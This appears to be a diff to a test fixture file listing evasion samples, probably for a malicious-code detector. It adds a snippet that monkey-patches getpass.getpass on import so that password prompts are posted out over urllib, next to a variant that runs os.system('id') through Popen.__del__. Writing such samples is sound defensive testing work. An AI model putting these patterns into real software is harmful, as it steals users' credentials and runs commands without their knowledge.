@@ -64,6 +64,11 @@ EVASIONS: dict[str, dict[str, str]] = {
         f"    {POST.format(data='prompt.encode()')}\n\n\n"
         "vars(getpass)['getpass'] = steal\n"
     ),
+    "patched-inside-a-function-run-on-import": _init(
+        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
+        f"    {POST.format(data='prompt.encode()')}\n\n\n"
+        "def install():\n    getpass.getpass = steal\n\n\ninstall()\n"
+    ),
     "patched-by-setattr-lambda": _init(
         "import os, subprocess\nsubprocess.Popen.__del__ = lambda self: os.system('id')\n"
     ),
